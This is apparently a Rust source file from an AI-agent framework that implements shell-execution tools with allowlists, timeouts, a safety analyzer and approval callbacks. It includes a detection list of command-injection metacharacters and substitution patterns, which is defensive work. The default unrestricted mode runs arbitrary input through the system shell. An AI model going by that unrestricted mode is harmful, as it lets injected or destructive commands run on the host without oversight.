//! # Shell Tool
//!
//! Execute shell commands with security controls.
//!
//! **⚠️ SECURITY WARNING**: Shell command execution is inherently risky. This tool provides
//! multiple security mechanisms, but you MUST configure appropriate restrictions for your use case:
//!
//! 1. **Command Allowlist** - Only allow specific commands (RECOMMENDED)
//! 2. **Command Prefix** - Only allow commands starting with specific prefixes
//! 3. **Working Directory Restriction** - Limit execution to specific directories
//! 4. **Timeout** - Prevent long-running commands
//! 5. **Output Size Limits** - Prevent excessive output
//!
//! ## Examples
//!
//! ### Safe Mode with Allowlist (RECOMMENDED)
//!
//! ```no_run
//! use dashflow_shell_tool::ShellTool;
//! use dashflow::core::tools::{Tool, ToolInput};
//! use serde_json::json;
//!
//! # tokio_test::block_on(async {
//! // Only allow specific safe commands
//! let tool = ShellTool::new()
//!     .with_allowed_commands(vec!["ls".to_string(), "pwd".to_string(), "date".to_string()]);
//!
//! let input = json!({"command": "ls -la"});
//! let result = tool._call(ToolInput::Structured(input)).await?;
//! println!("{}", result);
//! # Ok::<(), Box<dyn std::error::Error>>(())
//! # });
//! ```
//!
//! ### Prefix-Based Restrictions
//!
//! ```no_run
//! use dashflow_shell_tool::ShellTool;
//! use dashflow::core::tools::{Tool, ToolInput};
//! use serde_json::json;
//!
//! # tokio_test::block_on(async {
//! // Only allow git commands
//! let tool = ShellTool::new()
//!     .with_allowed_prefixes(vec!["git ".to_string()]);
//!
//! let input = json!({"command": "git status"});
//! let result = tool._call(ToolInput::Structured(input)).await?;
//! # Ok::<(), Box<dyn std::error::Error>>(())
//! # });
//! ```
//!
//! ### Sandboxed Execution (MOST SECURE)
//!
//! ```no_run
//! use dashflow_shell_tool::{SandboxedShellTool, SandboxMode, SandboxFallback};
//! use std::path::PathBuf;
//!
//! # tokio_test::block_on(async {
//! // OS-level sandbox with restricted filesystem access
//! let tool = SandboxedShellTool::builder()
//!     .sandbox_mode(SandboxMode::Strict)
//!     .writable_roots(vec![PathBuf::from("/tmp")])
//!     .on_sandbox_missing(SandboxFallback::Warn)
//!     .build()?;
//!
//! let result = tool.execute("ls -la").await?;
//! # Ok::<(), Box<dyn std::error::Error>>(())
//! # });
//! ```
//!
//! # See Also
//!
//! - [`Tool`] - The trait this implements
//! - [`dashflow-file-tool`](https://docs.rs/dashflow-file-tool) - File system operations (safer than shell for file ops)
//! - [`dashflow-calculator`](https://docs.rs/dashflow-calculator) - Mathematical expression evaluation (safer than shell for math)
//! - [`SafeShellTool`] - Shell tool with safety analysis and approval workflow

pub mod safety;
pub mod sandbox;

pub use safety::{AnalysisResult, CommandAnalyzer, SafetyConfig, Severity};
pub use sandbox::{
    SandboxCapabilities, SandboxError, SandboxFallback, SandboxMissingCallback, SandboxMode,
    SandboxedShellTool, SandboxedShellToolBuilder,
};

use async_trait::async_trait;
use dashflow::core::{
    tools::{Tool, ToolInput},
    Error,
};
use std::path::PathBuf;
use std::sync::Arc;
use std::time::Duration;
use tokio::io::AsyncReadExt;
use tokio::process::Command;

/// Shell command execution tool with security controls.
///
/// **⚠️ SECURITY**: This tool executes arbitrary shell commands. You MUST configure
/// appropriate security restrictions using allowlists, prefixes, or working directory restrictions.
///
/// By default (no restrictions), this tool is UNSAFE and should NEVER be exposed to untrusted input.
///
/// ## Security Configuration
///
/// 1. **Command Allowlist** (most restrictive) - Only specific commands allowed
/// 2. **Prefix Allowlist** (moderate) - Only commands with specific prefixes allowed
/// 3. **Working Directory** - Restrict execution to specific directory
/// 4. **Timeout** - Limit execution time (default: 30 seconds)
/// 5. **Max Output Size** - Limit output bytes (default: 1 MB)
///
/// ## Examples
///
/// ```
/// use dashflow_shell_tool::ShellTool;
///
/// // Safe: Only allow specific commands
/// let safe_tool = ShellTool::new()
///     .with_allowed_commands(vec!["ls".to_string(), "pwd".to_string()]);
///
/// // Moderate: Only allow git commands
/// let git_tool = ShellTool::new()
///     .with_allowed_prefixes(vec!["git ".to_string()]);
///
/// // UNSAFE: No restrictions (DO NOT USE IN PRODUCTION)
/// let unsafe_tool = ShellTool::new();
/// ```
#[derive(Debug, Clone)]
pub struct ShellTool {
    /// Optional list of allowed commands (first token only)
    allowed_commands: Option<Vec<String>>,
    /// Optional list of allowed command prefixes
    allowed_prefixes: Option<Vec<String>>,
    /// Optional working directory for command execution
    working_dir: Option<PathBuf>,
    /// Command timeout in seconds
    timeout_seconds: u64,
    /// Maximum output size in bytes
    max_output_bytes: usize,
}

impl Default for ShellTool {
    fn default() -> Self {
        Self::new()
    }
}

impl ShellTool {
    /// Create a new shell tool with default settings.
    ///
    /// **⚠️ WARNING**: By default, NO security restrictions are enabled.
    /// You MUST configure restrictions before using in production.
    ///
    /// # Examples
    ///
    /// ```
    /// use dashflow_shell_tool::ShellTool;
    ///
    /// let tool = ShellTool::new()
    ///     .with_allowed_commands(vec!["ls".to_string(), "pwd".to_string()])
    ///     .with_timeout(10);
    /// ```
    #[must_use]
    pub fn new() -> Self {
        Self {
            allowed_commands: None,
            allowed_prefixes: None,
            working_dir: None,
            timeout_seconds: 30,
            max_output_bytes: 1024 * 1024, // 1 MB default
        }
    }

    /// Set allowed commands (first token only).
    ///
    /// When set, only commands in this list will be executed.
    /// This is the MOST SECURE option.
    ///
    /// # Examples
    ///
    /// ```
    /// use dashflow_shell_tool::ShellTool;
    ///
    /// let tool = ShellTool::new()
    ///     .with_allowed_commands(vec!["ls".to_string(), "pwd".to_string(), "date".to_string()]);
    /// ```
    #[must_use]
    pub fn with_allowed_commands(mut self, commands: Vec<String>) -> Self {
        self.allowed_commands = Some(commands);
        self
    }

    /// Set allowed command prefixes.
    ///
    /// When set, only commands starting with these prefixes will be executed.
    /// Useful for allowing a category of commands (e.g., "git ", "docker ").
    ///
    /// # Examples
    ///
    /// ```
    /// use dashflow_shell_tool::ShellTool;
    ///
    /// // Only allow git commands
    /// let tool = ShellTool::new()
    ///     .with_allowed_prefixes(vec!["git ".to_string()]);
    /// ```
    #[must_use]
    pub fn with_allowed_prefixes(mut self, prefixes: Vec<String>) -> Self {
        self.allowed_prefixes = Some(prefixes);
        self
    }

    /// Set working directory for command execution.
    ///
    /// All commands will be executed in this directory.
    ///
    /// # Examples
    ///
    /// ```
    /// use dashflow_shell_tool::ShellTool;
    /// use std::path::PathBuf;
    ///
    /// let tool = ShellTool::new()
    ///     .with_working_dir(PathBuf::from("/tmp"));
    /// ```
    #[must_use]
    pub fn with_working_dir(mut self, dir: PathBuf) -> Self {
        self.working_dir = Some(dir);
        self
    }

    /// Set command timeout in seconds.
    ///
    /// Commands exceeding this timeout will be killed.
    ///
    /// # Examples
    ///
    /// ```
    /// use dashflow_shell_tool::ShellTool;
    ///
    /// let tool = ShellTool::new()
    ///     .with_timeout(60); // 60 second timeout
    /// ```
    #[must_use]
    pub fn with_timeout(mut self, seconds: u64) -> Self {
        self.timeout_seconds = seconds;
        self
    }

    /// Set maximum output size in bytes.
    ///
    /// Output exceeding this size will be truncated.
    ///
    /// # Examples
    ///
    /// ```
    /// use dashflow_shell_tool::ShellTool;
    ///
    /// let tool = ShellTool::new()
    ///     .with_max_output_bytes(512 * 1024); // 512 KB max
    /// ```
    #[must_use]
    pub fn with_max_output_bytes(mut self, bytes: usize) -> Self {
        self.max_output_bytes = bytes;
        self
    }

    /// Shell metacharacters that can be used for command injection.
    /// These allow command chaining, substitution, or redirection.
    const SHELL_METACHARACTERS: &'static [char] = &[
        ';',  // Command separator
        '|',  // Pipe
        '&',  // Background/AND
        '`',  // Command substitution (backticks)
        '\n', // Newline (command separator)
        '\r', // Carriage return
    ];

    /// Patterns that indicate command substitution or injection attempts.
    /// These are checked as substrings to catch $() and similar constructs.
    const INJECTION_PATTERNS: &'static [&'static str] = &[
        "$(", // Command substitution
        "${", // Variable expansion (can be exploited)
        "||", // OR operator (command chaining)
        "&&", // AND operator (command chaining)
    ];

    /// Check for shell metacharacters/patterns that could enable command injection.
    ///
    /// This is a defense-in-depth measure that blocks commands containing
    /// characters that could be used to inject additional commands.
    fn contains_shell_injection(command: &str) -> Option<String> {
        for &c in Self::SHELL_METACHARACTERS {
            if command.contains(c) {
                let char_repr = match c {
                    '\n' => "\\n".to_string(),
                    '\r' => "\\r".to_string(),
                    _ => c.to_string(),
                };
                return Some(format!(
                    "Command contains shell metacharacter '{}' which could enable command injection",
                    char_repr
                ));
            }
        }

        for &pattern in Self::INJECTION_PATTERNS {
            if command.contains(pattern) {
                return Some(format!(
                    "Command contains pattern '{}' which could enable command injection",
                    pattern
                ));
            }
        }

        None
    }

    fn parse_command_words(command: &str) -> Result<Vec<String>, String> {
        shlex::split(command).ok_or_else(|| {
            "Failed to parse command (unbalanced quotes or invalid escapes)".to_string()
        })
    }

    #[cfg(target_os = "windows")]
    fn is_windows_shell_builtin(program: &str) -> bool {
        // NOTE: This is intentionally a small subset to avoid accidentally treating
        // dangerous built-ins (e.g., `del`) as “supported” in restricted mode.
        matches!(
            program.to_ascii_lowercase().as_str(),
            "echo" | "dir" | "type" | "cd"
        )
    }

    #[cfg(target_os = "windows")]
    fn validate_windows_cmd_words(words: &[String]) -> Result<(), String> {
        // SECURITY: `cmd.exe` expands `%VAR%`/`!VAR!` before execution, and treats certain
        // characters as control operators. In restricted mode we forbid these characters
        // so allowlists/prefix checks cannot be bypassed via expansion or chaining.
        const FORBIDDEN: &[char] = &['&', '|', '<', '>', '^', '%', '!', '\n', '\r', '\0'];

        for word in words {
            if let Some(c) = word.chars().find(|c| FORBIDDEN.contains(c)) {
                let char_repr = match c {
                    '\n' => "\\n".to_string(),
                    '\r' => "\\r".to_string(),
                    '\0' => "\\0".to_string(),
                    _ => c.to_string(),
                };
                return Err(format!(
                    "Command rejected: contains character '{char_repr}' which is unsafe under cmd.exe in restricted mode"
                ));
            }
        }

        Ok(())
    }

    /// Check if a command is allowed based on configured restrictions.
    fn is_command_allowed(&self, command: &str, words: &[String]) -> Result<(), String> {
        let command = command.trim();
        let first_token = words.first().map(String::as_str).unwrap_or("");

        if first_token.is_empty() {
            return Err("Command cannot be empty".to_string());
        }

        // Check allowed commands (first token)
        if let Some(ref allowed) = self.allowed_commands {
            if !allowed.contains(&first_token.to_string()) {
                return Err(format!(
                    "Command '{}' not in allowed list. Allowed commands: {}",
                    first_token,
                    allowed.join(", ")
                ));
            }
        }

        // Check allowed prefixes
        if let Some(ref prefixes) = self.allowed_prefixes {
            let has_allowed_prefix = prefixes.iter().any(|prefix| command.starts_with(prefix));
            if !has_allowed_prefix {
                return Err(format!(
                    "Command must start with one of: {}",
                    prefixes.join(", ")
                ));
            }
        }

        Ok(())
    }

    fn build_shell_command(command: &str) -> Command {
        if cfg!(target_os = "windows") {
            let mut c = Command::new("cmd");
            c.args(["/C", command]);
            c
        } else {
            let mut c = Command::new("sh");
            c.args(["-c", command]);
            c
        }
    }

    fn build_restricted_command(words: &[String]) -> Result<Command, String> {
        if words.is_empty() {
            return Err("Command cannot be empty".to_string());
        }

        #[cfg(target_os = "windows")]
        {
            let program = &words[0];
            if Self::is_windows_shell_builtin(program) {
                Self::validate_windows_cmd_words(words)?;

                let mut c = Command::new("cmd");
                c.arg("/D").arg("/C").arg(program);
                c.args(&words[1..]);
                return Ok(c);
            }
        }

        let mut c = Command::new(&words[0]);
        c.args(&words[1..]);

        Ok(c)
    }

    /// Execute a shell command.
    async fn execute_command(&self, command: &str) -> Result<String, Error> {
        let command = command.trim();
        if command.is_empty() {
            return Err(Error::tool_error("Command cannot be empty"));
        }

        let has_restrictions = self.allowed_commands.is_some() || self.allowed_prefixes.is_some();
        let restricted_words = if has_restrictions {
            if let Some(reason) = Self::contains_shell_injection(command) {
                return Err(Error::tool_error(format!("Security: {reason}")));
            }
            Some(
                Self::parse_command_words(command)
                    .map_err(|e| Error::tool_error(format!("Security: {e}")))?,
            )
        } else {
            None
        };

        if let Some(words) = restricted_words.as_deref() {
            self.is_command_allowed(command, words)
                .map_err(|e| Error::tool_error(format!("Security: {e}")))?;
        }

        // Prepare command:
        // - Unrestricted mode runs via the platform shell (feature-complete but unsafe).
        // - Restricted mode avoids the shell to prevent bypass via variable expansion/chaining.
        let mut cmd = if let Some(words) = restricted_words.as_deref() {
            Self::build_restricted_command(words)
                .map_err(|e| Error::tool_error(format!("Security: {e}")))?
        } else {
            Self::build_shell_command(command)
        };

        // Set working directory if configured
        if let Some(ref dir) = self.working_dir {
            cmd.current_dir(dir);
        }

        // Spawn process with stdout/stderr capture
        cmd.stdout(std::process::Stdio::piped())
            .stderr(std::process::Stdio::piped());

        let mut child = cmd
            .spawn()
            .map_err(|e| Error::tool_error(format!("Failed to spawn command: {e}")))?;

        // Get stdout and stderr handles
        let mut stdout = child
            .stdout
            .take()
            .ok_or_else(|| Error::tool_error("Failed to capture stdout"))?;
        let mut stderr = child
            .stderr
            .take()
            .ok_or_else(|| Error::tool_error("Failed to capture stderr"))?;

        // Wait with timeout
        let timeout = Duration::from_secs(self.timeout_seconds);
        let result = tokio::time::timeout(timeout, async {
            // Read stdout and stderr concurrently
            let mut stdout_buf = Vec::new();
            let mut stderr_buf = Vec::new();

            // Read up to max_output_bytes
            let stdout_task = tokio::spawn(async move {
                stdout.read_to_end(&mut stdout_buf).await?;
                Ok::<_, std::io::Error>(stdout_buf)
            });

            let stderr_task = tokio::spawn(async move {
                stderr.read_to_end(&mut stderr_buf).await?;
                Ok::<_, std::io::Error>(stderr_buf)
            });

            let (stdout_result, stderr_result) = tokio::join!(stdout_task, stderr_task);

            let stdout_bytes = stdout_result
                .map_err(|e| Error::tool_error(format!("Join error: {e}")))?
                .map_err(|e| Error::tool_error(format!("Read stdout error: {e}")))?;
            let stderr_bytes = stderr_result
                .map_err(|e| Error::tool_error(format!("Join error: {e}")))?
                .map_err(|e| Error::tool_error(format!("Read stderr error: {e}")))?;

            // Wait for process to complete
            let status = child
                .wait()
                .await
                .map_err(|e| Error::tool_error(format!("Wait error: {e}")))?;

            Ok::<_, Error>((stdout_bytes, stderr_bytes, status))
        })
        .await;

        match result {
            Ok(Ok((stdout_bytes, stderr_bytes, status))) => {
                // Truncate output if needed
                let stdout_str = String::from_utf8_lossy(
                    &stdout_bytes[..std::cmp::min(stdout_bytes.len(), self.max_output_bytes)],
                );
                let stderr_str = String::from_utf8_lossy(
                    &stderr_bytes[..std::cmp::min(stderr_bytes.len(), self.max_output_bytes)],
                );

                let mut output = String::new();

                if !stdout_str.is_empty() {
                    output.push_str(&stdout_str);
                }

                if !stderr_str.is_empty() {
                    if !output.is_empty() {
                        output.push_str("\n[stderr]\n");
                    }
                    output.push_str(&stderr_str);
                }

                // Add truncation notice if needed
                if stdout_bytes.len() > self.max_output_bytes
                    || stderr_bytes.len() > self.max_output_bytes
                {
                    output.push_str(&format!(
                        "\n\n[Output truncated at {} bytes]",
                        self.max_output_bytes
                    ));
                }

                // Add exit code if non-zero
                if !status.success() {
                    let exit_code = status.code().unwrap_or(-1);
                    output.push_str(&format!("\n\nExit code: {exit_code}"));
                }

                if output.is_empty() {
                    output = "<no output>".to_string();
                }

                Ok(output)
            }
            Ok(Err(e)) => Err(e),
            Err(_) => {
                // Timeout - kill the process
                // SAFETY: Kill failure is acceptable - process may have already exited,
                // or kill may fail for permission reasons. Either way, we're returning
                // a timeout error and there's no recovery action.
                let _ = child.kill().await;
                Err(Error::tool_error(format!(
                    "Command timed out after {} seconds",
                    self.timeout_seconds
                )))
            }
        }
    }
}

#[async_trait]
impl Tool for ShellTool {
    fn name(&self) -> &'static str {
        "shell"
    }

    fn description(&self) -> &'static str {
        "Execute shell commands. \
         Returns stdout and stderr output. \
         Non-zero exit codes are included in output. \
         Commands may be restricted based on security policy."
    }

    fn args_schema(&self) -> serde_json::Value {
        serde_json::json!({
            "type": "object",
            "properties": {
                "command": {
                    "type": "string",
                    "description": "The shell command to execute"
                }
            },
            "required": ["command"]
        })
    }

    async fn _call(&self, input: ToolInput) -> Result<String, Error> {
        let command = match input {
            ToolInput::String(s) => s,
            ToolInput::Structured(obj) => obj
                .get("command")
                .and_then(|v| v.as_str())
                .ok_or_else(|| Error::tool_error("Missing 'command' field in input"))?
                .to_string(),
        };

        self.execute_command(&command).await
    }
}

/// Approval callback type for dangerous commands
pub type ApprovalCallback = Arc<dyn Fn(&str, Severity) -> bool + Send + Sync>;

/// Safe shell tool with command analysis and approval workflow
///
/// This tool analyzes commands before execution and can require approval
/// for dangerous operations.
///
/// ## Example
///
/// ```
/// use dashflow_shell_tool::{SafeShellTool, SafetyConfig, Severity};
/// use std::sync::Arc;
///
/// // Create with restrictive config
/// let tool = SafeShellTool::new(SafetyConfig::restrictive());
///
/// // Or with custom approval callback
/// let tool_with_approval = SafeShellTool::new(SafetyConfig::permissive())
///     .with_approval_callback(Arc::new(|cmd, severity| {
///         // Auto-approve safe commands, block dangerous ones
///         severity <= Severity::Unknown
///     }));
/// ```
pub struct SafeShellTool {
    /// Command analyzer
    analyzer: CommandAnalyzer,
    /// Working directory
    working_dir: Option<PathBuf>,
    /// Command timeout in seconds
    timeout_seconds: u64,
    /// Maximum output size in bytes
    max_output_bytes: usize,
    /// Approval callback (returns true if command should execute)
    approval_callback: Option<ApprovalCallback>,
    /// Whether to block forbidden commands entirely
    block_forbidden: bool,
}

impl std::fmt::Debug for SafeShellTool {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("SafeShellTool")
            .field("working_dir", &self.working_dir)
            .field("timeout_seconds", &self.timeout_seconds)
            .field("max_output_bytes", &self.max_output_bytes)
            .field("has_approval_callback", &self.approval_callback.is_some())
            .field("block_forbidden", &self.block_forbidden)
            .finish()
    }
}

impl SafeShellTool {
    /// Create a new safe shell tool with the given safety config
    #[must_use]
    pub fn new(config: SafetyConfig) -> Self {
        Self {
            analyzer: CommandAnalyzer::new(config),
            working_dir: None,
            timeout_seconds: 30,
            max_output_bytes: 1024 * 1024,
            approval_callback: None,
            block_forbidden: true,
        }
    }

    /// Create with restrictive safety config
    #[must_use]
    pub fn restrictive() -> Self {
        Self::new(SafetyConfig::restrictive())
    }

    /// Create with permissive safety config
    #[must_use]
    pub fn permissive() -> Self {
        Self::new(SafetyConfig::permissive())
    }

    /// Set working directory
    #[must_use]
    pub fn with_working_dir(mut self, dir: PathBuf) -> Self {
        self.working_dir = Some(dir);
        self
    }

    /// Set timeout in seconds
    #[must_use]
    pub fn with_timeout(mut self, seconds: u64) -> Self {
        self.timeout_seconds = seconds;
        self
    }

    /// Set maximum output size
    #[must_use]
    pub fn with_max_output_bytes(mut self, bytes: usize) -> Self {
        self.max_output_bytes = bytes;
        self
    }

    /// Set approval callback
    ///
    /// The callback receives the command and its severity, and returns
    /// true if the command should be executed.
    #[must_use]
    pub fn with_approval_callback(mut self, callback: ApprovalCallback) -> Self {
        self.approval_callback = Some(callback);
        self
    }

    /// Set whether to block forbidden commands entirely
    #[must_use]
    pub fn with_block_forbidden(mut self, block: bool) -> Self {
        self.block_forbidden = block;
        self
    }

    /// Analyze a command without executing it
    #[must_use]
    pub fn analyze(&self, command: &str) -> AnalysisResult {
        self.analyzer.analyze(command)
    }

    /// Execute a command after safety checks
    async fn execute_command(&self, command: &str) -> Result<String, Error> {
        // Analyze command
        let analysis = self.analyzer.analyze(command);

        // Block forbidden commands
        if self.block_forbidden && analysis.severity == Severity::Forbidden {
            return Err(Error::tool_error(format!(
                "Command blocked (forbidden): {}. Reasons: {}",
                command,
                analysis.reasons.join("; ")
            )));
        }

        // Check approval callback for non-safe commands
        if analysis.severity > Severity::Safe {
            if let Some(ref callback) = self.approval_callback {
                if !callback(command, analysis.severity) {
                    return Err(Error::tool_error(format!(
                        "Command not approved: {} (severity: {})",
                        command, analysis.severity
                    )));
                }
            }
        }

        // Execute the command
        self.run_command(command).await
    }

    /// Actually run the command
    async fn run_command(&self, command: &str) -> Result<String, Error> {
        let mut cmd = if cfg!(target_os = "windows") {
            let mut c = Command::new("cmd");
            c.args(["/C", command]);
            c
        } else {
            let mut c = Command::new("sh");
            c.args(["-c", command]);
            c
        };

        if let Some(ref dir) = self.working_dir {
            cmd.current_dir(dir);
        }

        cmd.stdout(std::process::Stdio::piped())
            .stderr(std::process::Stdio::piped());

        let mut child = cmd
            .spawn()
            .map_err(|e| Error::tool_error(format!("Failed to spawn command: {e}")))?;

        let mut stdout = child
            .stdout
            .take()
            .ok_or_else(|| Error::tool_error("Failed to capture stdout"))?;
        let mut stderr = child
            .stderr
            .take()
            .ok_or_else(|| Error::tool_error("Failed to capture stderr"))?;

        let timeout = Duration::from_secs(self.timeout_seconds);
        let max_bytes = self.max_output_bytes;

        let result = tokio::time::timeout(timeout, async {
            let mut stdout_buf = Vec::new();
            let mut stderr_buf = Vec::new();

            let stdout_task = tokio::spawn(async move {
                stdout.read_to_end(&mut stdout_buf).await?;
                Ok::<_, std::io::Error>(stdout_buf)
            });

            let stderr_task = tokio::spawn(async move {
                stderr.read_to_end(&mut stderr_buf).await?;
                Ok::<_, std::io::Error>(stderr_buf)
            });

            let (stdout_result, stderr_result) = tokio::join!(stdout_task, stderr_task);

            let stdout_bytes = stdout_result
                .map_err(|e| Error::tool_error(format!("Join error: {e}")))?
                .map_err(|e| Error::tool_error(format!("Read stdout error: {e}")))?;
            let stderr_bytes = stderr_result
                .map_err(|e| Error::tool_error(format!("Join error: {e}")))?
                .map_err(|e| Error::tool_error(format!("Read stderr error: {e}")))?;

            let status = child
                .wait()
                .await
                .map_err(|e| Error::tool_error(format!("Wait error: {e}")))?;

            Ok::<_, Error>((stdout_bytes, stderr_bytes, status))
        })
        .await;

        match result {
            Ok(Ok((stdout_bytes, stderr_bytes, status))) => {
                let stdout_str = String::from_utf8_lossy(
                    &stdout_bytes[..std::cmp::min(stdout_bytes.len(), max_bytes)],
                );
                let stderr_str = String::from_utf8_lossy(
                    &stderr_bytes[..std::cmp::min(stderr_bytes.len(), max_bytes)],
                );

                let mut output = String::new();

                if !stdout_str.is_empty() {
                    output.push_str(&stdout_str);
                }

                if !stderr_str.is_empty() {
                    if !output.is_empty() {
                        output.push_str("\n[stderr]\n");
                    }
                    output.push_str(&stderr_str);
                }

                if stdout_bytes.len() > max_bytes || stderr_bytes.len() > max_bytes {
                    output.push_str(&format!("\n\n[Output truncated at {} bytes]", max_bytes));
                }

                if !status.success() {
                    let exit_code = status.code().unwrap_or(-1);
                    output.push_str(&format!("\n\nExit code: {exit_code}"));
                }

                if output.is_empty() {
                    output = "<no output>".to_string();
                }

                Ok(output)
            }
            Ok(Err(e)) => Err(e),
            Err(_) => {
                // SAFETY: Kill failure is acceptable - process may have already exited,
                // or kill may fail for permission reasons. Either way, we're returning
                // a timeout error and there's no recovery action.
                let _ = child.kill().await;
                Err(Error::tool_error(format!(
                    "Command timed out after {} seconds",
                    self.timeout_seconds
                )))
            }
        }
    }
}

#[async_trait]
impl Tool for SafeShellTool {
    fn name(&self) -> &'static str {
        "safe_shell"
    }

    fn description(&self) -> &'static str {
        "Execute shell commands with safety analysis. \
         Commands are analyzed for potential risks before execution. \
         Dangerous commands may require approval. \
         Forbidden commands are blocked."
    }

    fn args_schema(&self) -> serde_json::Value {
        serde_json::json!({
            "type": "object",
            "properties": {
                "command": {
                    "type": "string",
                    "description": "The shell command to execute"
                },
                "analyze_only": {
                    "type": "boolean",
                    "description": "If true, only analyze the command without executing",
                    "default": false
                }
            },
            "required": ["command"]
        })
    }

    async fn _call(&self, input: ToolInput) -> Result<String, Error> {
        let (command, analyze_only) = match input {
            ToolInput::String(s) => (s, false),
            ToolInput::Structured(obj) => {
                let cmd = obj
                    .get("command")
                    .and_then(|v| v.as_str())
                    .ok_or_else(|| Error::tool_error("Missing 'command' field in input"))?
                    .to_string();
                let analyze = obj
                    .get("analyze_only")
                    .and_then(|v| v.as_bool())
                    .unwrap_or(false);
                (cmd, analyze)
            }
        };

        if analyze_only {
            let analysis = self.analyze(&command);
            Ok(serde_json::to_string_pretty(&analysis)
                .unwrap_or_else(|_| format!("{:?}", analysis)))
        } else {
            self.execute_command(&command).await
        }
    }
}
